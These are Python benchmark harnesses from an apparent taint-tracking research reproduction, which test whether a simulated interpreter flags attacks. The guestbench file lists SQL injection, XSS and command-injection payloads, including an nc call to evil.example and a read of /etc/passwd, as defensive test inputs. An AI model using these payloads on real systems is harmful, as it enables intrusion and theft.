        if not trial["exactly_once"]:
            failures.append(
                f"{tag}: lost or duplicated requests (journal "
                f"{trial['journal']}, dropped {trial['dropped']})")
        if not trial["outcome_matches_control"]:
            failures.append(
                f"{tag}: outcome digest diverged from uncrashed control")
        if len(trial["recoveries"]) < CAMPAIGN_CRASHES + CAMPAIGN_STALLS:
            failures.append(
                f"{tag}: {len(trial['recoveries'])} recoveries < "
                f"{CAMPAIGN_CRASHES + CAMPAIGN_STALLS} injected faults")
        if trial["detection"]["detection_rate"] < 1.0:
            failures.append(
                f"{tag}: attack detection "
                f"{trial['detection']['detection_rate']:.2f} < 1.0")
        if not trial["evidence_intact"]:
            failures.append(
                f"{tag}: quarantine evidence lost across recovery "
                f"({trial['quarantined']} vs control "
                f"{trial['control']['quarantined']})")
        if trial["false_alerts"]:
            failures.append(
                f"{tag}: {trial['false_alerts']} false alert(s)")
        if not trial["recovery_bounded"]:
            failures.append(
                f"{tag}: recovery latency "
                f"{trial['recovery_latency_max']:.0f} exceeds bound "
                f"{trial['recovery_bound']:.0f} cycles")
        if not trial["rerun_identical"]:
            failures.append(f"{tag}: re-run digest diverged at fixed seed")
    zombie = report["zombie"]
    if not zombie["deduped"]:
        failures.append("zombie arm suppressed no duplicate completion")
    if not zombie["exactly_once"]:
        failures.append("zombie arm lost or duplicated requests")
    shed = report["shedding"]
    if not shed["shed"]:
        failures.append("degradation arm shed nothing at 2x capacity")
    if not shed["no_silent_drops"]:
        failures.append(
            f"degradation arm dropped silently (dropped {shed['dropped']}, "
            f"shed {shed['shed']} vs rejected {shed['rejected_counter']})")
    if not shed["accepted_complete"] or not shed["exactly_once"]:
        failures.append("degradation arm lost accepted requests")
    if shed["detection"]["detection_rate"] < 1.0:
        failures.append("degradation arm missed an admitted attack")
    wire = report["wire"]
    if not wire["wire_visible"]:
        failures.append("wire arm surfaced no retransmit/reject counters")
    if not wire["outcome_matches_control"]:
        failures.append("wire arm outcome diverged from clean-wire control")
    if not wire["exactly_once"]:
        failures.append("wire arm lost or duplicated requests")
    for failure in failures:
        print(f"GATE FAIL: {failure}", file=sys.stderr)
    return 1 if failures else 0


def main(argv=None) -> int:
    parser = bench_parser("repro.harness.chaosbench", __doc__,
                          output="BENCH_chaos.json")
    parser.add_argument("--wall", action="store_true",
                        help="force the supervised wall-clock arm "
                             "(default: full mode only)")
    args = parser.parse_args(argv)

    report = run_suite(args.quick, args.seed, args.engine,
                       wall=args.wall or not args.quick)
    write_report(report, args.output)
    if args.gate:
        return gate(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
