"""Guest-interpreter benchmark: MiniScript VM under the H3/H5 policies.

The campaign behind ``BENCH_guest.json``: the MiniScript bytecode VM
(:mod:`repro.apps.guestvm` — a guest interpreter written in MiniC and
instrumented by our own pipeline) serves seeded mixes of clean and
attacking script requests, and the Table-1 high-level policies must
fire *through* the interpreter's dispatch-loop indirection:

1. **Detection mixes** (per service, per seed): interleaved clean and
   attack requests against the key-value store (SQL injection → H3 at
   the ``sql`` use point), the templating handler (XSS → H5 at the
   ``html_output`` use point) and the ping service (command injection
   → H4 at the ``system`` use point), run in ``recover`` mode.  Every
   attack
   must be quarantined with the right policy id and an origin chain
   reaching the tainted *network request bytes* — not just VM-internal
   addresses — and every clean request must be answered.  Each mix is
   run twice; the digests must match bit-for-bit.
2. **Clean mixes**: the same servers fed only clean traffic (including
   parameterized queries and escaped templates carrying the *attack
   payloads* — the strongest true-negatives).  Zero alerts allowed.
3. **Adaptive arm**: the dual-version VM serves the same attack mix in
   always-on, adaptive ("on"), and pinned-track modes — the alert
   streams must be identical — and a clean template mix must actually
   exercise mode switching (the VM quiesces between requests).
4. **Fleet smoke**: MiniScript requests cross a machine boundary as
   :class:`~repro.fleet.wire.TaggedMessage` frames into interior-tier
   workers that trust their own ingress.  The tagged attack must be
   quarantined (proof the wire tags are load-bearing); the identical
   payload with zero tags must sail through.

::

    PYTHONPATH=src python -m repro.harness.guestbench --quick --gate

``--gate`` exits non-zero unless detection is 100% on every attack mix,
no clean mix raised an alert, every alert's origins reach the request
bytes, reruns are digest-identical, the adaptive arm's alerts match
always-on bit-for-bit, and the fleet smoke behaved — the conditions the
CI ``guest-smoke`` job enforces.
"""

from __future__ import annotations

import hashlib
import json
import random
import sys
from typing import Dict, List, Optional, Sequence, Tuple

from repro.apps.guestvm import (
    kv_get_request,
    kv_pget_request,
    kv_set_request,
    ping_request,
    template_request,
)
from repro.compiler.instrument import ShiftOptions
from repro.fleet.driver import FleetConfig, FleetDriver
from repro.fleet.wire import TaggedMessage
from repro.harness.benchcli import bench_parser, write_report
from repro.harness.runners import (
    build_web_machine,
    guest_backend_policy,
    guestvm_policy,
)

#: The VM runs strict byte-granularity: its own address arithmetic is
#: untainted by construction, so no pointer-policy relaxation is needed.
GUEST_OPTIONS = ShiftOptions(granularity=1)

#: Per-request instruction budget in recover mode.  A MiniScript
#: request completes in well under 500k instructions.
GUEST_WATCHDOG = 5_000_000

MAX_INSTRUCTIONS = 2_000_000_000

#: H3 attack payloads: tainted SQL metachars breaking out of the key
#: literal the vulnerable GET verb concatenates.
SQL_ATTACK_KEYS = (
    "x' OR '1'='1",
    "nobody'; DROP TABLE kv; --",
    'x" OR 1=1',
)

#: H5 attack payloads: tainted script tags in unescaped RAW output.
XSS_PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "pre< script>document.cookie</script>",
)

#: H4 attack payloads: tainted shell metachars chaining extra commands
#: onto the ping the vulnerable verb concatenates.
CMD_ATTACK_HOSTS = (
    "localhost;cat /etc/passwd",
    "host.example|nc evil.example 80",
    "a.example`reboot`",
)

_WORDS = ("alice", "bob", "carol", "dave", "erin", "frank", "grace",
          "heidi", "ivan", "judy", "mallory", "niaj", "olivia", "peggy")


def _kv_mix(rng: random.Random, clean: int, attacks: int,
            with_attacks: bool) -> List[Tuple[bytes, Optional[str]]]:
    """Seeded KV-store traffic: (request, expected policy or None)."""
    requests: List[Tuple[bytes, Optional[str]]] = []
    for i in range(clean):
        key = rng.choice(_WORDS) + str(rng.randrange(100))
        kind = rng.randrange(3)
        if kind == 0:
            requests.append((kv_set_request(key, rng.choice(_WORDS)), None))
        elif kind == 1:
            # Vulnerable path, benign key: a true-negative through the
            # concatenated query (no metachar, no alert).
            requests.append((kv_get_request(key), None))
        else:
            # Parameterized control fed a *hostile* key: the strongest
            # true-negative — same attack bytes, no alert.
            requests.append((kv_pget_request(rng.choice(SQL_ATTACK_KEYS)),
                             None))
    if with_attacks:
        for i in range(attacks):
            requests.append((kv_get_request(rng.choice(SQL_ATTACK_KEYS)),
                             "H3"))
    rng.shuffle(requests)
    return requests


def _tmpl_mix(rng: random.Random, clean: int, attacks: int,
              with_attacks: bool) -> List[Tuple[bytes, Optional[str]]]:
    """Seeded template traffic: (request, expected policy or None)."""
    requests: List[Tuple[bytes, Optional[str]]] = []
    for i in range(clean):
        kind = rng.randrange(3)
        if kind == 0:
            requests.append(
                (template_request(rng.choice(_WORDS)), None))
        elif kind == 1:
            # RAW with markup that is not a script tag: tainted bytes
            # in the output, but nothing H5 fires on.
            requests.append(
                (template_request(f"<b>{rng.choice(_WORDS)}</b>"), None))
        else:
            # Escaped control fed the attack payload itself.
            requests.append(
                (template_request(rng.choice(XSS_PAYLOADS), escaped=True),
                 None))
    if with_attacks:
        for i in range(attacks):
            requests.append(
                (template_request(rng.choice(XSS_PAYLOADS)), "H5"))
    rng.shuffle(requests)
    return requests


def _ping_mix(rng: random.Random, clean: int, attacks: int,
              with_attacks: bool) -> List[Tuple[bytes, Optional[str]]]:
    """Seeded ping-service traffic: (request, expected policy or None)."""
    requests: List[Tuple[bytes, Optional[str]]] = []
    for i in range(clean):
        host = rng.choice(_WORDS) + str(rng.randrange(100)) + ".example"
        kind = rng.randrange(3)
        if kind == 0:
            # Vulnerable path, benign host: tainted bytes reach the
            # shell command with no metachar among them — a
            # true-negative through the concatenation.
            requests.append((ping_request(host), None))
        elif kind == 1:
            # Validated control fed a *hostile* host: the in-script
            # charset check rejects it before the shell-out.
            requests.append(
                (ping_request(rng.choice(CMD_ATTACK_HOSTS), validated=True),
                 None))
        else:
            requests.append((ping_request(host, validated=True), None))
    if with_attacks:
        for i in range(attacks):
            requests.append(
                (ping_request(rng.choice(CMD_ATTACK_HOSTS)), "H4"))
    rng.shuffle(requests)
    return requests


SERVICES = {
    "kv": {"variant": "guest-kv", "policy_id": "H3", "mix": _kv_mix},
    "template": {"variant": "guest-tmpl", "policy_id": "H5",
                 "mix": _tmpl_mix},
    "ping": {"variant": "guest-ping", "policy_id": "H4",
             "mix": _ping_mix},
}


def _run_mix(variant: str, mix: Sequence[Tuple[bytes, Optional[str]]],
             engine: str, adaptive: str = "none",
             engine_mode: str = "recover") -> Dict:
    """Serve one request mix; return the canonical outcome dict."""
    machine = build_web_machine(
        variant, GUEST_OPTIONS,
        policy_config=guestvm_policy(),
        engine_mode=engine_mode,
        recover_watchdog=GUEST_WATCHDOG if engine_mode == "recover" else None,
        engine=engine,
        tracing=True,
        adaptive=adaptive,
    )
    for payload, _expected in mix:
        machine.net.add_request(payload)
    served = machine.run(max_instructions=MAX_INSTRUCTIONS)
    incidents = []
    if machine.resil is not None:
        incidents = [
            {"request": inc.request_index, "reason": inc.reason,
             "policy": inc.policy_id}
            for inc in machine.resil.incidents
        ]
    outcome = {
        "served": served,
        "responses": [bytes(c.outbound).decode("latin-1")
                      for c in machine.net.completed],
        "quarantined": len(machine.net.quarantined),
        "incidents": incidents,
        "alerts": [
            {"policy_id": a.policy_id, "message": a.message,
             "context": a.context,
             "origins": [o.describe() for o in a.origins]}
            for a in machine.alerts
        ],
        "instructions": machine.counters.instructions,
    }
    if machine.adaptive is not None:
        outcome["adaptive_stats"] = {
            "switches_to_fast": machine.adaptive.switches_to_fast,
            "switches_to_track": machine.adaptive.switches_to_track,
            "final_mode": machine.adaptive.mode,
        }
    return outcome


def _digest(outcome: Dict) -> str:
    """Deterministic fingerprint of one mix run's observable outcome."""
    canonical = {k: outcome[k] for k in
                 ("served", "responses", "quarantined", "incidents",
                  "alerts", "instructions")}
    blob = json.dumps(canonical, sort_keys=True).encode()
    return hashlib.sha256(blob).hexdigest()


def _origins_reach_source(outcome: Dict, source: str = "network") -> bool:
    """Every alert's origin chain must name the tainted source bytes."""
    for alert in outcome["alerts"]:
        if not any(f"{source} 'request#" in o for o in alert["origins"]):
            return False
    return True


def detection_campaign(service: str, seed: int, clean: int, attacks: int,
                       engine: str) -> Dict:
    """Attack + clean mixes for one guest service at one seed."""
    spec = SERVICES[service]
    rng = random.Random(seed)
    attack_mix = spec["mix"](rng, clean, attacks, True)
    expected = [p for _r, p in attack_mix if p is not None]

    first = _run_mix(spec["variant"], attack_mix, engine)
    rerun = _run_mix(spec["variant"], attack_mix, engine)
    digest, digest2 = _digest(first), _digest(rerun)

    clean_mix = spec["mix"](random.Random(seed + 1), clean, attacks, False)
    control = _run_mix(spec["variant"], clean_mix, engine)

    detected = sum(1 for inc in first["incidents"]
                   if inc["reason"] == "alert"
                   and inc["policy"] == spec["policy_id"])
    entry = {
        "service": service,
        "seed": seed,
        "clean_requests": clean,
        "attacks": len(expected),
        "served": first["served"],
        "quarantined": first["quarantined"],
        "detected": detected,
        "detection_rate": detected / len(expected) if expected else 1.0,
        "origins_ok": _origins_reach_source(first),
        "digest": digest,
        "digest_stable": digest == digest2,
        "incidents": first["incidents"],
        "alert_origins": [a["origins"] for a in first["alerts"]],
        "clean_served": control["served"],
        "clean_false_alerts": len(control["alerts"]),
        "exact": (first["served"] == clean
                  and first["quarantined"] == len(expected)
                  and detected == len(expected)
                  and control["served"] == clean
                  and not control["alerts"]),
    }
    return entry


def adaptive_arm(seed: int, clean: int, attacks: int, engine: str) -> Dict:
    """Dual-version VM: identical alerts, and real mode switching."""
    rng = random.Random(seed)
    attack_mix = _tmpl_mix(rng, clean, attacks, True)

    def alert_sig(outcome: Dict) -> List[Tuple[str, str, str]]:
        return [(a["policy_id"], a["message"], a["context"])
                for a in outcome["alerts"]]

    arms = {
        mode: _run_mix("guest-tmpl", attack_mix, engine, adaptive=mode,
                       engine_mode="log")
        for mode in ("none", "on", "track")
    }
    signatures = {mode: alert_sig(outcome) for mode, outcome in arms.items()}
    alerts_match = (signatures["none"] == signatures["on"]
                    == signatures["track"])

    # Clean traffic through the switching VM: the per-request scrub
    # must re-quiesce the machine so the controller drops to fast mode.
    clean_mix = _tmpl_mix(random.Random(seed + 1), clean, attacks, False)
    switching = _run_mix("guest-tmpl", clean_mix, engine, adaptive="on",
                         engine_mode="log")
    stats = switching["adaptive_stats"]
    return {
        "seed": seed,
        "attack_alerts": {m: len(s) for m, s in signatures.items()},
        "alerts_match": alerts_match,
        "clean_false_alerts": len(switching["alerts"]),
        "switches_to_fast": stats["switches_to_fast"],
        "switches_to_track": stats["switches_to_track"],
        "final_mode": stats["final_mode"],
        "exact": (alerts_match
                  and not switching["alerts"]
                  and stats["switches_to_fast"] >= 1),
    }


def fleet_smoke(seed: int, engine: str) -> Dict:
    """MiniScript requests through TaggedMessage wire frames.

    Interior-tier workers trust their own network ingress
    (:func:`guest_backend_policy`), so the only way the XSS payload can
    alert is if the wire-transported tag bits survived the hop — and
    the untagged control (same bytes, zero tags) must be served.
    """
    config = FleetConfig(variant="guest-tmpl", options=GUEST_OPTIONS,
                         policy=guest_backend_policy(), engine=engine,
                         tracing=True)
    attack = template_request(XSS_PAYLOADS[0])
    clean = template_request("alice")
    requests = [
        TaggedMessage.from_flags(clean, [True] * len(clean)),
        TaggedMessage.from_flags(attack, [True] * len(attack)),
        TaggedMessage(payload=attack),   # zero tags: the control
        TaggedMessage.from_flags(clean, [True] * len(clean)),
    ]

    def run_once() -> "FleetResult":
        return FleetDriver(config, workers=2, seed=seed).run(requests)

    result = run_once()
    alerts = [a for w in result.workers for a in w["alerts"]]
    origins_ok = all(
        any("wire 'request#" in o for o in a["origins"]) for a in alerts)
    digest = result.digest()
    entry = {
        "seed": seed,
        "requests": len(requests),
        "served": result.served,
        "quarantined": result.quarantined,
        "alerts": [{"policy_id": a["policy_id"], "origins": a["origins"]}
                   for a in alerts],
        "origins_ok": origins_ok,
        "digest": digest,
        "digest_stable": digest == run_once().digest(),
        "exact": (result.served == 3
                  and result.quarantined == 1
                  and len(alerts) == 1
                  and alerts[0]["policy_id"] == "H5"
                  and origins_ok),
    }
    return entry


def run_suite(quick: bool, seed: int, engine: str) -> Dict:
    """Full guest campaign; returns the report dict."""
    clean, attacks = (6, 3) if quick else (14, 6)
    seeds = [seed] if quick else [seed, seed + 17]

    services = {}
    for service in SERVICES:
        runs = []
        for s in seeds:
            print(f"guestbench: {service} detection mix (seed {s})",
                  flush=True)
            entry = detection_campaign(service, s, clean, attacks, engine)
            print(f"  served {entry['served']}/{entry['clean_requests']} "
                  f"clean, quarantined {entry['quarantined']}/"
                  f"{entry['attacks']} attacks "
                  f"({SERVICES[service]['policy_id']}), "
                  f"origins_ok={entry['origins_ok']}, "
                  f"stable={entry['digest_stable']}", flush=True)
            runs.append(entry)
        services[service] = runs

    print("guestbench: adaptive dual-version arm", flush=True)
    adaptive = adaptive_arm(seed, clean, attacks, engine)
    print(f"  alerts_match={adaptive['alerts_match']}, "
          f"switches_to_fast={adaptive['switches_to_fast']}", flush=True)

    print("guestbench: fleet wire-tag smoke", flush=True)
    fleet = fleet_smoke(seed, engine)
    print(f"  served {fleet['served']}, quarantined {fleet['quarantined']}, "
          f"origins_ok={fleet['origins_ok']}", flush=True)

    return {
        "config": {
            "seed": seed,
            "engine": engine,
            "quick": quick,
            "clean_requests": clean,
            "attacks": attacks,
            "seeds": seeds,
            "python": sys.version.split()[0],
        },
        "services": services,
        "adaptive": adaptive,
        "fleet": fleet,
    }


def gate(report: Dict) -> int:
    """Check the CI gate conditions; returns a process exit code."""
    failures = []
    for service, runs in report["services"].items():
        for entry in runs:
            tag = f"{service}/seed{entry['seed']}"
            if entry["detection_rate"] < 1.0:
                failures.append(
                    f"{tag}: detection {entry['detection_rate']:.2f} < 1.0")
            if entry["clean_false_alerts"]:
                failures.append(
                    f"{tag}: {entry['clean_false_alerts']} false alert(s) "
                    "on clean mix")
            if not entry["origins_ok"]:
                failures.append(
                    f"{tag}: alert origins do not reach the request bytes")
            if not entry["digest_stable"]:
                failures.append(f"{tag}: rerun digest mismatch")
            if not entry["exact"]:
                failures.append(f"{tag}: mix was not exact")
    if not report["adaptive"]["exact"]:
        failures.append("adaptive arm: alerts diverged or no switching")
    if not report["fleet"]["exact"]:
        failures.append("fleet smoke: wire-tag detection was not exact")
    for failure in failures:
        print(f"GATE FAIL: {failure}", file=sys.stderr)
    return 1 if failures else 0


def main(argv=None) -> int:
    parser = bench_parser("repro.harness.guestbench", __doc__,
                          output="BENCH_guest.json", seed=20080)
    args = parser.parse_args(argv)

    report = run_suite(args.quick, args.seed, args.engine)
    write_report(report, args.output)
    if args.gate:
        return gate(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
