"""ASCII bar charts for the regenerated figures.

The paper presents Figures 6-9 as grouped bar charts; these helpers
render the same data as fixed-width text so `results/` artefacts are
readable at a glance without plotting dependencies.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence, Tuple

#: Glyph per series, cycled.
_GLYPHS = "#=*o+x"


def bar_chart(
    groups: Sequence[Tuple[str, Dict[str, float]]],
    *,
    title: str = "",
    unit: str = "X",
    width: int = 48,
    baseline: Optional[float] = 1.0,
) -> str:
    """Render grouped horizontal bars.

    ``groups`` is a sequence of ``(group_label, {series: value})``; all
    series share one scale.  ``baseline`` draws a reference tick (the
    1.0X line for slowdown charts; pass None to disable).
    """
    series_names: List[str] = []
    for _, values in groups:
        for name in values:
            if name not in series_names:
                series_names.append(name)
    peak = max((v for _, values in groups for v in values.values()), default=1.0)
    scale = width / peak if peak > 0 else 1.0
    label_width = max((len(label) for label, _ in groups), default=0)
    series_width = max((len(name) for name in series_names), default=0)

    lines: List[str] = []
    if title:
        lines.append(title)
    legend = "   ".join(
        f"{_GLYPHS[i % len(_GLYPHS)]} {name}" for i, name in enumerate(series_names)
    )
    lines.append(f"{'':{label_width}}  {legend}")
    for label, values in groups:
        first = True
        for i, name in enumerate(series_names):
            if name not in values:
                continue
            value = values[name]
            bar = _GLYPHS[i % len(_GLYPHS)] * max(1, round(value * scale))
            row_label = label if first else ""
            lines.append(
                f"{row_label:{label_width}}  {name:{series_width}} "
                f"|{bar} {value:.2f}{unit}"
            )
            first = False
        lines.append("")
    if baseline is not None and 0 < baseline <= peak:
        tick = round(baseline * scale)
        ruler = " " * (label_width + series_width + 4) + " " * tick + f"^ {baseline:g}{unit}"
        lines.append(ruler)
    return "\n".join(lines).rstrip() + "\n"


def figure7_chart(result) -> str:
    """Bar-chart view of a Figure7Result."""
    groups = [
        (row.benchmark, {
            "byte": row.byte_unsafe,
            "word": row.word_unsafe,
        })
        for row in result.rows
    ]
    return bar_chart(groups, title="Figure 7 (unsafe input): slowdown vs baseline",
                     unit="X")


def figure8_chart(result, level: str = "byte") -> str:
    """Bar-chart view of a Figure8Result at one granularity."""
    groups = [
        (row.benchmark, {
            "unsafe": row.unsafe,
            "+set/clear": row.set_clear,
            "+both": row.both,
        })
        for row in result.level_rows(level)
    ]
    return bar_chart(groups,
                     title=f"Figure 8 ({level}-level): enhancement impact", unit="X")


def figure9_chart(result, level: str = "byte") -> str:
    """Stacked components of a Figure9Result as grouped bars."""
    groups = []
    for row in result.rows:
        if row.level != level:
            continue
        groups.append((row.benchmark, {
            "ld compute": row.load_compute,
            "ld mem": row.load_mem,
            "st compute": row.store_compute,
            "st mem": row.store_mem,
        }))
    return bar_chart(groups, unit="x base",
                     title=f"Figure 9 ({level}-level): overhead components "
                           "(fraction of baseline runtime)",
                     baseline=None)
