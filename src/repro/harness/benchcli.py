"""Shared CLI plumbing for the bench harnesses.

servebench, fleetbench, resilbench and adaptivebench all expose the
same contract — ``--quick`` for the CI smoke configuration, a
deterministic ``--seed``, ``--engine``, ``--output`` for the report
path and ``--gate`` to turn the report into an exit code — and used to
re-implement it with small inconsistencies.  :func:`bench_parser`
builds the common parser (each harness adds its own extras on top) and
:func:`write_report` serialises a report the one canonical way
(sorted keys, two-space indent, trailing newline).
"""

from __future__ import annotations

import argparse
import json
import pathlib
from typing import Dict, Optional

__all__ = ["bench_parser", "write_report"]


def bench_parser(prog: str, doc: Optional[str], *, output: str,
                 seed: Optional[int] = 0, engine: bool = True,
                 scale: Optional[str] = None) -> argparse.ArgumentParser:
    """The common bench argument parser.

    ``output`` is the default report path; ``seed=None`` omits the
    ``--seed`` flag (for harnesses with no seeded randomness);
    ``engine=False`` omits ``--engine``; ``scale`` adds ``--scale``
    with the given default (SPEC input scale).
    """
    parser = argparse.ArgumentParser(
        prog=prog, description=(doc or "").strip().split("\n")[0])
    parser.add_argument("--quick", action="store_true",
                        help="small CI-smoke configuration")
    if seed is not None:
        parser.add_argument("--seed", type=int, default=seed,
                            help=f"deterministic seed (default: {seed})")
    if engine:
        parser.add_argument("--engine", default="predecoded",
                            choices=("reference", "predecoded"),
                            help="execution engine (default: predecoded)")
    if scale is not None:
        parser.add_argument("--scale", default=scale,
                            help=f"SPEC input scale (default: {scale})")
    parser.add_argument("--output", default=output,
                        help=f"report path (default: {output})")
    parser.add_argument("--gate", action="store_true",
                        help="exit 1 unless every gate condition holds")
    return parser


def write_report(report: Dict, output: str) -> pathlib.Path:
    """Write one JSON report the canonical way; returns its path."""
    path = pathlib.Path(output)
    with open(path, "w") as fh:
        json.dump(report, fh, indent=2, sort_keys=True)
        fh.write("\n")
    print(f"wrote {path}")
    return path
