"""On-demand tracking benchmark: speedup, soundness and detection.

Four experiments, one report (``BENCH_adaptive.json``):

1. **Clean-heavy server mix** — the compute-bound dynamic-content
   backend (:data:`repro.apps.webserver.BACKEND_SOURCE`) behind a fleet
   frontend (``backend_policy``: own ingress trusted, taint arrives via
   wire tags), fed mostly-clean wire-tagged requests with occasional
   tainted ones.  Three arms over identical traffic: ``adaptive`` (dual
   build, mode controller on), ``always_on`` (dual build pinned in
   track mode) and ``uninstrumented`` (mode="none" floor).  The CI gate
   lives here: >= 1.5x cycle speedup over always-on, responses and
   alerts bit-identical.
2. **Taint-heavy mix** — same server, every request tainted; reported
   (not gated) to show the adaptive overhead degrades to ~always-on
   instead of falling off a cliff.
3. **SPEC kernels** — gzip/gcc/mcf dual-built, run once with safe
   (untainted) input — the whole run should execute in fast mode at
   uninstrumented speed — and once with tainted input (tracked
   throughout, same checksum).
4. **Attack detection** — resilbench's attack mix (overflow, traversal,
   runaway) on an *adaptive* vulnerable server: every attack must be
   quarantined with the same reasons as the always-on run, plus a
   wire-taint traversal against the adaptive backend must raise H2.

::

    PYTHONPATH=src python -m repro.harness.adaptivebench --quick --gate

``--gate`` exits non-zero unless the clean-heavy speedup is >= 1.5x,
every attack was detected, and no arm raised a false alert on clean
traffic.  A registry render (switch counts included) is written next to
the report as ``metrics.txt``.
"""

from __future__ import annotations

import pathlib
import sys
from typing import Dict, List, Sequence, Tuple

from repro.apps.spec import BENCHMARKS
from repro.apps.webserver import make_request, traversal_request
from repro.compiler.instrument import ShiftOptions
from repro.harness.benchcli import bench_parser, write_report
from repro.harness.resilbench import attack_mix
from repro.harness.runners import (
    backend_policy,
    build_web_machine,
    run_spec,
)
from repro.taint.bitmap import pack_flags

#: The backend runs strict byte-granularity — the adaptive claim is
#: "full-strength tracking when it matters, zero cost when quiescent",
#: so the track half carries the strongest configuration.
BACKEND_OPTIONS = ShiftOptions(granularity=1)

#: CI gate: minimum clean-heavy speedup of adaptive over always-on.
SPEEDUP_GATE = 1.5

#: Request stream: (payload, per-byte tainted?) pairs.
Request = Tuple[bytes, bool]


def clean_heavy_mix(clean: int, tainted: int, size_kb: int = 8) -> List[Request]:
    """Mostly-clean traffic with tainted traversal probes interleaved."""
    reqs: List[Request] = [(make_request(size_kb), False)] * clean
    stride = max(1, clean // max(tainted, 1))
    for i in range(tainted):
        reqs.insert((i + 1) * stride + i, (traversal_request(), True))
    return reqs


def taint_heavy_mix(count: int, size_kb: int = 8) -> List[Request]:
    """Every request wire-tainted (worst case for on-demand tracking)."""
    return [(make_request(size_kb), True)] * count


def _run_backend(adaptive: str, requests: Sequence[Request],
                 engine: str) -> Dict:
    """One backend arm over one request stream; returns raw observables."""
    machine = build_web_machine(
        "backend",
        BACKEND_OPTIONS if adaptive != "uninstrumented"
        else ShiftOptions(mode="none"),
        policy_config=backend_policy(),
        sizes=(4, 8),
        engine=engine,
        engine_mode="alert",
        adaptive=adaptive if adaptive != "uninstrumented" else "none",
    )
    for payload, is_tainted in requests:
        machine.net.add_request(
            payload, taint_mask=pack_flags([is_tainted] * len(payload)))
    served = machine.run(max_instructions=2_000_000_000)
    responses = [bytes(c.outbound) for c in machine.net.completed]
    arm = {
        "served": served,
        "cycles": machine.counters.cycles,
        "io_cycles": machine.counters.io_cycles,
        "instructions": machine.counters.instructions,
        "alerts": [(a.policy_id, a.pc, a.message) for a in machine.alerts],
        "responses": responses,
        "live_bytes_final": machine.taint_map.live_bytes,
        "machine": machine,
    }
    if machine.adaptive is not None:
        arm["switches_to_fast"] = machine.adaptive.switches_to_fast
        arm["switches_to_track"] = machine.adaptive.switches_to_track
        arm["final_mode"] = machine.adaptive.mode
    return arm


def _public(arm: Dict) -> Dict:
    """Strip non-serialisable internals from an arm record."""
    out = {k: v for k, v in arm.items() if k not in ("machine", "responses")}
    out["alerts"] = [list(a) for a in arm["alerts"]]
    return out


def server_experiment(name: str, requests: Sequence[Request],
                      engine: str,
                      expected_alerts: int = None) -> Dict:
    """Run adaptive / always-on / uninstrumented arms over one stream.

    ``expected_alerts`` defaults to the tainted-request count (right for
    the clean-heavy mix, whose tainted requests are traversal probes);
    the taint-heavy mix passes 0 — its tainted requests are benign.
    """
    adaptive = _run_backend("on", requests, engine)
    always_on = _run_backend("track", requests, engine)
    floor = _run_backend("uninstrumented", requests, engine)
    tainted_count = sum(1 for _, t in requests if t)
    if expected_alerts is None:
        expected_alerts = tainted_count
    identical = (adaptive["responses"] == always_on["responses"]
                 and adaptive["alerts"] == always_on["alerts"]
                 and adaptive["served"] == always_on["served"])
    entry = {
        "name": name,
        "engine": engine,
        "requests": len(requests),
        "tainted_requests": tainted_count,
        "adaptive": _public(adaptive),
        "always_on": _public(always_on),
        "uninstrumented": _public(floor),
        "speedup": always_on["cycles"] / adaptive["cycles"],
        "overhead_vs_floor": adaptive["cycles"] / floor["cycles"],
        "identical_to_always_on": identical,
        # Every expected attack must alert; clean traffic must not.
        "attacks_detected": len(adaptive["alerts"]),
        "attacks_expected": expected_alerts,
    }
    entry["_machine"] = adaptive["machine"]
    return entry


def spec_experiment(benchmarks: Sequence[str], scale: str,
                    engine: str) -> List[Dict]:
    """Dual-built SPEC kernels, safe vs tainted input, vs always-on."""
    rows = []
    for name in benchmarks:
        bench = BENCHMARKS[name]
        for safe in (True, False):
            on = run_spec(bench, BACKEND_OPTIONS, scale, safe_input=safe,
                          engine=engine, adaptive="on")
            track = run_spec(bench, BACKEND_OPTIONS, scale, safe_input=safe,
                             engine=engine, adaptive="track")
            rows.append({
                "benchmark": name,
                "safe_input": safe,
                "adaptive_cycles": on.cycles,
                "always_on_cycles": track.cycles,
                "speedup": track.cycles / on.cycles,
                "checksum_match": on.checksum == track.checksum,
            })
    return rows


def wire_taint_detection(engine: str) -> Dict:
    """A traversal whose taint arrives purely via wire tags must alert.

    Control arm: the identical bytes with their tags stripped sail
    through (the backend trusts its own ingress), proving the detection
    is carried by the transported tags, not by the byte pattern.
    """
    def probe(tainted: bool) -> List:
        machine = build_web_machine(
            "backend", BACKEND_OPTIONS,
            policy_config=backend_policy(),
            sizes=(4,), engine=engine, engine_mode="alert", adaptive="on",
        )
        payload = traversal_request("/../etc/secret")
        machine.net.add_request(
            payload, taint_mask=pack_flags([tainted] * len(payload)))
        machine.run(max_instructions=100_000_000)
        return [a.policy_id for a in machine.alerts]

    armed, control = probe(True), probe(False)
    return {
        "engine": engine,
        "tagged_alerts": armed,
        "untagged_alerts": control,
        "detected": armed == ["H2"] and control == [],
    }


def run_suite(quick: bool, engine: str, scale: str) -> Tuple[Dict, str]:
    """All four experiments; returns (report, rendered metrics text)."""
    clean, tainted = (20, 1) if quick else (60, 3)
    print("adaptivebench: clean-heavy server mix", flush=True)
    clean_entry = server_experiment(
        "clean_heavy", clean_heavy_mix(clean, tainted), engine)
    machine = clean_entry.pop("_machine")
    print(f"  speedup {clean_entry['speedup']:.2f}x over always-on, "
          f"identical={clean_entry['identical_to_always_on']}, "
          f"alerts {clean_entry['attacks_detected']}"
          f"/{clean_entry['attacks_expected']}", flush=True)

    print("adaptivebench: taint-heavy server mix", flush=True)
    heavy_entry = server_experiment(
        "taint_heavy", taint_heavy_mix(6 if quick else 20), engine,
        expected_alerts=0)
    heavy_entry.pop("_machine")
    print(f"  overhead vs floor {heavy_entry['overhead_vs_floor']:.2f}x "
          f"(always-on {heavy_entry['always_on']['cycles'] / heavy_entry['uninstrumented']['cycles']:.2f}x)",
          flush=True)

    print("adaptivebench: SPEC kernels", flush=True)
    spec_rows = spec_experiment(
        ["gzip"] if quick else ["gzip", "gcc", "mcf"], scale, engine)
    for row in spec_rows:
        print(f"  {row['benchmark']:6s} safe={row['safe_input']!s:5s} "
              f"speedup {row['speedup']:.2f}x "
              f"checksum_match={row['checksum_match']}", flush=True)

    print("adaptivebench: attack detection (adaptive resil server)", flush=True)
    mix = attack_mix(engine=engine, adaptive="on")
    wire = wire_taint_detection(engine)
    print(f"  attack mix exact={mix['exact']}, "
